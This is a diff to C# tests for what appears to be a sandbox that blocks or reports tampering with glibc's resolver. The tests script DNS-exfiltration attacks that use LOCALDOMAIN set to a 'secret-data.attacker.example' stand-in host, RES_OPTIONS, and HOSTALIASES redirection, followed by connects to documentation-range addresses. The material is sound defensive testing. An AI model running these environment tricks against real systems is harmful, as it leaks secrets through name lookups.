@@ -21,14 +21,14 @@ public static class ResolverProbe
 /// <param name="Denied">Commands and a fragment of their block-mode line.</param>
 /// <param name="Leak">A fragment of a server log line that only the attack produces.</param>
 /// <param name="Events">The "what" of every block-mode event.</param>
-/// <param name="Knob">What the lookup's event names as changed.</param>
+/// <param name="Knob">What the lookup's event names as changed (null: nothing is reported).</param>
 /// <param name="Kept">
 /// The attack changes the variables glibc reads when it loads its configuration: the library's start has glibc load
 /// it with their values at start (see resolver_state.c), so in alert mode the lookup is let through and reported but
 /// answered as the system's configuration answers it.
 /// </param>
 public sealed record ResolverAttack(string Name, string[] Commands, (string Command, string Blocked)[] Denied, string Leak,
-    string[] Events, string Knob, bool Kept = false)
+    string[] Events, string? Knob, bool Kept = false)
 {
     public override string ToString() => Name;
 }
@@ -46,12 +46,13 @@ public class ResolverConfigurationTests
             ["env LOCALDOMAIN=secret-data.attacker.example", "env RES_OPTIONS=ndots:5", $"gai {Allowed}", $"ghbn {Allowed}", "connect4 203.0.113.7 7070"],
             [($"gai {Allowed}", GaiFail), ($"ghbn {Allowed}", HostentFail), ("connect4 203.0.113.7 7070", Eperm)],
             "secret-data.attacker.example", [Allowed, Allowed, "203.0.113.7:7070"], "LOCALDOMAIN, RES_OPTIONS", Kept: true),
-        // the variables applied to _res by res_init (made to read them afresh), then put back: _res keeps the search list
+        // the variables applied by res_init, then put back: without the library glibc loads its configuration with
+        // them there and keeps it; with it, glibc loaded it at start, so nothing changed and nothing leaves
         new("LOCALDOMAIN applied by res_init, then unset",
-            ["env LOCALDOMAIN=secret-data.attacker.example", "env RES_OPTIONS=ndots:5", "resinit_fresh", "unenv LOCALDOMAIN", "unenv RES_OPTIONS",
+            ["env LOCALDOMAIN=secret-data.attacker.example", "env RES_OPTIONS=ndots:5", "resinit", "unenv LOCALDOMAIN", "unenv RES_OPTIONS",
              $"gai {Allowed}", $"resq {Allowed}"],
-            [($"gai {Allowed}", GaiFail), ($"resq {Allowed}", QueryFail)],
-            "secret-data.attacker.example", [Allowed, Allowed], "_res", Kept: true),
+            [($"gai {Allowed}", "status=0 addrs=203.0.113.40"), ($"resq {Allowed}", "result=answer")],
+            "secret-data.attacker.example", [], null, Kept: true),
         // an always-allowed single-label name ("aws") rewritten to the attacker's
         new("HOSTALIASES",
             ["env HOSTALIASES={aliases}", "gai aws", "ghbn aws", "connect4 203.0.113.41 7070"],
@@ -100,7 +101,7 @@ public class ResolverConfigurationTests
         Assert.DoesNotContain(block.ServerLog, l => l.StartsWith("dns-evil") || l.Contains("attacker.example") || l.StartsWith("tcp "));
         NetNamespace.EventsHaveSeedSchema(block);
         NetNamespace.SameEvents(attack.Events, block.Events("block"), block);
-        Assert.Contains(block.Result.Events, e => e.Str("message").Contains(attack.Knob, StringComparison.Ordinal));
+        if (attack.Knob != null) Assert.Contains(block.Result.Events, e => e.Str("message").Contains(attack.Knob, StringComparison.Ordinal));
     }
 
     [NamespaceTheory]
@@ -117,7 +118,7 @@ public class ResolverConfigurationTests
         else Assert.Contains(alert.ServerLog, l => l.Contains(attack.Leak));
         NetNamespace.EventsHaveSeedSchema(alert);
         Assert.All(alert.Result.Events, e => Assert.Equal("alert", e.Str("action")));
-        Assert.Contains(alert.Result.Events, e => e.Str("message").Contains(attack.Knob, StringComparison.Ordinal));
+        if (attack.Knob != null) Assert.Contains(alert.Result.Events, e => e.Str("message").Contains(attack.Knob, StringComparison.Ordinal));
         // what the changed resolver answered is not trusted as the allowed name's address: the connect is reported
         foreach (var connect in attack.Denied.Select(d => d.Command).Where(c => c.StartsWith("connect4 ")))
             Assert.Contains(alert.Events(), w => w.Contains(connect.Split(' ')[1] + (attack.Kept ? ":" : "):"), StringComparison.Ordinal));
